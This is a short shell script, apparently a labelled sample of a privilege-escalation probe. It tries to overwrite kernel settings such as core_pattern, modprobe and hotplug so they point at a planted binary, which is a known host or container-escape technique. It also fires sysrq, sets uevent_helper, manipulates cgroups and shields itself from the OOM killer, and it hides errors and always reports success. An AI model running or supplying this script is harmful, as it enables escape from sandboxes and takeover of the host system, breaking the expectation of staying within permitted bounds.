# class: privilege probe; possible: low medium; style: kernel's switches
for f in kernel/core_pattern kernel/modprobe kernel/hotplug vm/drop_caches kernel/yama/ptrace_scope net/ipv4/ip_forward; do
  echo '|/tmp/p %p' > /proc/sys/$f && echo "$f written"
done 2>/tmp/err
echo h > /proc/sysrq-trigger
echo 1 > /sys/kernel/uevent_helper
mkdir -p /sys/fs/cgroup/x0 && echo $$ > /sys/fs/cgroup/x0/cgroup.procs
echo -1000 > /proc/self/oom_score_adj
exit 0
